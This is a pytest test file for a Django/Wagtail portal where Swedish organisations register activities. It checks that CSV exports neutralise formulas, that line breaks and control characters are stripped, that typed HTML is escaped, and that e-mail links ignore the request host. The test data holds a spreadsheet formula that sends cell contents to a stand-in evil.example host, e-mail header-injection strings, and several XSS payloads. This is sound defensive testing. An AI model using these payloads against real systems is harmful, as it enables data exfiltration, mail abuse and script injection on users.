"""What organisations type stays text: single lines stay single, nothing becomes HTML, CSV cells
never run as formulas, and every e-mail links to the portal's own base URL."""

from django.contrib.auth.models import Permission
from django.core import mail
from django.test import override_settings
from django.urls import reverse

import pytest

from partners.factories import OrganisationFactory, UserFactory, make_orgnr
from partners.models import Activity, Organisation

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klick")'


@pytest.fixture
def staff(home):
    user = UserFactory(email="handlaggare@lansstyrelsen.example", username="handlaggare")
    user.user_permissions.add(
        Permission.objects.get(codename="access_admin"),
        *Permission.objects.filter(content_type__app_label="partners"),
    )
    return user


def test_the_organisation_csv_export_neutralises_formulas(client, staff, leksand):
    OrganisationFactory(name=FORMULA, email="kansli@example.se", municipalities=[leksand])
    OrganisationFactory(name="+46 Föreningen", municipalities=[leksand])
    client.force_login(staff)
    response = client.get(reverse("wagtailsnippets_partners_organisation:list"), {"export": "csv"})
    assert response.status_code == 200
    text = (
        b"".join(response.streaming_content).decode()
        if response.streaming
        else response.content.decode()
    )
    assert text.startswith("\ufeff")
    lines = text.lstrip("\ufeff").splitlines()
    assert lines[0].split(";")[0] == "Namn"
    assert any(line.startswith("\"'=HYPERLINK(") for line in lines)
    assert not any(line.startswith(("=", '"=')) for line in lines)
    assert any(line.startswith("'+46 Föreningen") for line in lines)


def organisation_data(leksand, **extra):
    data = {
        "name": "Nya föreningen",
        "org_number": make_orgnr(778),
        "legal_form": "ideell_forening",
        "municipalities": [leksand.pk],
    }
    data.update(extra)
    return data


def test_single_line_fields_lose_line_breaks_and_control_characters(client, owner, leksand):
    client.force_login(owner)
    client.post(
        "/mina-sidor/foreningar/ny/",
        organisation_data(
            leksand,
            name="Nya\r\nBcc: x@evil.example föreningen\x00",
            phone="0247\n123",
            city="Leksand\u2028by",
            street_address="Storgatan\t1",
            description="Första stycket.\r\n\r\nAndra\x07 stycket.",
        ),
    )
    organisation = Organisation.objects.get()
    assert organisation.name == "Nya Bcc: x@evil.example föreningen"
    assert organisation.phone == "0247 123"
    assert organisation.city == "Leksand by"
    assert organisation.street_address == "Storgatan 1"
    assert organisation.description == "Första stycket.\n\nAndra stycket."


def test_activity_single_line_fields(client, owner, org_a, leksand):
    client.force_login(owner)
    client.post(
        reverse("partners:activity_create", args=[org_a.pk]),
        {
            "title": "Språk\ncafé",
            "kind": "language_cafe",
            "description": "Rad ett\r\nrad två",
            "schedule_note": "Inte\r\npå lov",
            "municipality": leksand.pk,
            "address": "Biblioteket\n2 tr",
            "cost": "Gratis\r\n",
            "contact": "kansli@example.se\nBcc: x",
        },
    )
    activity = Activity.objects.get()
    assert activity.title == "Språk café"
    assert activity.description == "Rad ett\nrad två"
    assert activity.schedule_note == "Inte på lov"
    assert activity.address == "Biblioteket 2 tr"
    assert activity.cost == "Gratis"
    assert activity.contact == "kansli@example.se Bcc: x"


def test_html_typed_by_an_organisation_is_shown_as_text(client, org_a, leksand):
    from partners.factories import ActivityFactory

    org_a.description = '<img src=x onerror="alert(1)">\n\n<a href="javascript:alert(2)">x</a>'
    org_a.save()
    activity = ActivityFactory(
        organisation=org_a,
        title="<svg onload=alert(3)>",
        description="<script>alert(4)</script>",
        contact='"><script>alert(5)</script>',
    )
    for url in (org_a.get_absolute_url(), activity.get_absolute_url(), "/foreningar/aktiviteter/"):
        content = client.get(url).content.decode()
        for raw in ("<img src=x", '<a href="javascript', "<svg onload", "<script>alert"):
            assert raw not in content, (url, raw)


@override_settings(PORTAL_BASE_URL="https://portal.example.se")
def test_invitation_links_use_the_portal_base_url_not_the_request_host(client, owner, org_a):
    client.force_login(owner)
    client.post(
        reverse("partners:invite", args=[org_a.pk]),
        {"email": "ny@example.se", "role": "editor"},
        HTTP_HOST="localhost:8000",
    )
    body = mail.outbox[0].body
    assert "https://portal.example.se/mina-sidor/inbjudan/" in body
    assert "localhost" not in body
    assert "\n" not in mail.outbox[0].subject


@override_settings(PORTAL_BASE_URL="https://portal.example.se")
def test_decision_emails_use_the_portal_base_url(client, staff, owner, leksand):
    pending = OrganisationFactory(
        owner=owner, status=Organisation.Status.PENDING, municipalities=[leksand]
    )
    client.force_login(staff)
    client.post(
        reverse("wagtailsnippets_partners_organisation:review", args=[pending.pk]),
        {"decision": "verify"},
        HTTP_HOST="localhost:8000",
    )
    assert f"https://portal.example.se{pending.get_absolute_url()}" in mail.outbox[0].body
    assert "localhost" not in mail.outbox[0].body
